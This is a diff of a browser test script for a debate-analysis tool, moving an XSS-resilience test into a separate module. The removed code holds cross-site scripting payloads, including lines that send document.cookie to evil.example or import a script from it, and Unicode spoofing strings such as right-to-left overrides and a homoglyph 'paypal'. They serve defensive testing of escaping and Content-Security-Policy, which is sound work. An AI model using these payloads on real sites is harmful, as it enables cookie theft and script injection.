@@ -2,11 +2,12 @@
 //   node tests/browser/explorer.mjs AGON [CASE [SCREENSHOT_FOLDER]]     without CASE, or with "", the sample is analysed first
 // Exits with 77 where there is no Chromium (a skipped test for ctest). Ends with "N passed, N failed".
 import { spawn, spawnSync } from "node:child_process";
-import { copyFileSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { copyFileSync, existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
 import { createRequire } from "node:module";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { fileURLToPath } from "node:url";
+import { checkAttacks } from "./attacks.mjs";
 import { checkEditing } from "./editing.mjs";
 import { checkNumbers } from "./explorer_numbers.mjs";
 import { checkPages } from "./explorer_pages.mjs";
@@ -183,67 +184,15 @@ async function quoteByKeyboard(base, debate, quote) {
   await context.close();
 }
 
-/** Posts, names and titles that try to become code, or to look like something else. */
-function hostileLines() {
-  const starts = ["<script>", "<img src=x onerror=", "<svg onload=", "\"><script>", "'><img src=x onerror=", "<iframe srcdoc=", "<a href=javascript:", "<style>@import '", "<base href='", "<meta http-equiv=refresh content='0;url=", "</title><script>", "<!--><script>", "<math><mi xlink:href=javascript:", "<details open ontoggle=", "<body onload="];
-  const middles = ["alert(1)", "fetch('https://evil.example/'+document.cookie)", "window.opener.location='https://evil.example'", "document.body.innerHTML=''", "import('https://evil.example/x.js')"];
-  const ends = ["</script>", ">", "'>", "\">"];
-  const lines = [];
-  for (const start of starts) for (const middle of middles) for (const end of ends) lines.push(start + middle + end);
-  const disguises = ["\u202Egnp.exe", "\u2066left\u2069", "\u200Fright", "p\u0430ypal", "\uFEFFzero", "a\u200Bb", "\u0000nul".replace("\u0000", ""), "é".normalize("NFD"), "👩‍👩‍👧‍👦", "𠮷野家", "ﷺ", "\u0301combining"];
-  for (let i = 0; i < 60; i++) lines.push(`${disguises[i % disguises.length]} 国产芯片应该由国家主导 ${i}`);
-  return lines;
-}
-
-async function attacks() {
-  const folder = mkdtempSync(join(tmpdir(), "agon-hostile-"));
-  const lines = hostileLines();
-  writeFileSync(join(folder, "posts.jsonl"), lines.map((text, i) => JSON.stringify({ question: i % 2 ? `国家该不该管？${text}` : text, author: text.slice(0, 60), votes: i, text: `反对这种说法，${text}，国家不应该管。` })).join("\n") + "\n");
-  const made = join(folder, "case");
-  spawnSync(agon, ["import", made, join(folder, "posts.jsonl"), "--quiet"]);
-  const analysed = spawnSync(agon, ["analyze", made, "--quiet"]);
-  check(analysed.status === 0, `attacks: analyze ended with ${analysed.status}: ${analysed.stderr}`);
-  const base = new URL(await serve(made)).origin + "/";
-  const context = await browser.newContext(); // with the page's own Content-Security-Policy in force
-  const { page, seen } = await watched(context, base);
-  const rows = await (await fetch(`${base}api/rows?table=threads/posts`)).json();
-  check(rows.all === lines.length, `attacks: ${rows.all} of ${lines.length} hostile posts came in`);
-  const ids = new Set();
-  for (let offset = 0; offset < rows.all; offset += 200) {
-    const part = await (await fetch(`${base}api/rows?table=threads/questions&offset=${offset}`)).json();
-    for (const row of part.rows) ids.add(row.thread);
-    await page.goto(`${base}rows?table=threads/posts&offset=${offset}`);
-    await page.waitForSelector("table");
-    await page.goto(`${base}rows?table=threads/questions&offset=${offset}`);
-    await page.waitForSelector("table");
-  }
-  for (const path of ["", "quality", "method", "actors", "consensus", "numbers", ...["script", "alert", "evil", "国家"].map((q) => `search?q=${q}`)]) {
-    await page.goto(base + path);
-    await page.waitForSelector("h1");
-    await page.waitForFunction(() => !document.querySelector(".waiting"));
-  }
-  for (const id of [...ids].slice(0, 40)) {
-    await page.goto(`${base}thread/${id}`);
-    await page.waitForSelector(".post");
-  }
-  const alive = await page.evaluate(() => document.querySelectorAll("header.top nav a").length > 5);
-  check(alive, "attacks: the page was rewritten");
-  const policed = seen.filter((s) => !s.includes("404"));
-  check(policed.length === 0, `attacks: ${policed.slice(0, 3).join("; ")}`);
-  // What reads from right to left stays inside its own element.
-  const loose = await page.evaluate(() => [...document.querySelectorAll(".who, .text")].filter((e) => !e.querySelector("bdi")).length);
-  check(loose === 0, `attacks: ${loose} names or texts stand outside <bdi>`);
-  await context.close();
-  rmSync(folder, { recursive: true, force: true });
-}
-
 const only = process.env.AGON_BROWSER_ONLY; // one part while you work on it
 try {
-  const folder = sample ?? analysedSample();
-  if (!only || only === "pages") await everyPage(folder);
-  if (!sample && (!only || only === "editing")) await checkEditing(folder, { browser, check, serve, watched, axe, shots });
-  if (!sample) rmSync(folder, { recursive: true, force: true });
-  if (!only || only === "attacks") await attacks();
+  if (only !== "attacks") {
+    const folder = sample ?? analysedSample();
+    if (only !== "editing") await everyPage(folder);
+    if (!sample && only !== "pages") await checkEditing(folder, { browser, check, serve, watched, axe, shots });
+    if (!sample) rmSync(folder, { recursive: true, force: true });
+  }
+  if (!only || only === "attacks") await checkAttacks({ browser, check, serve, watched, agon, shots });
 } catch (error) {
   check(false, String(error));
 }
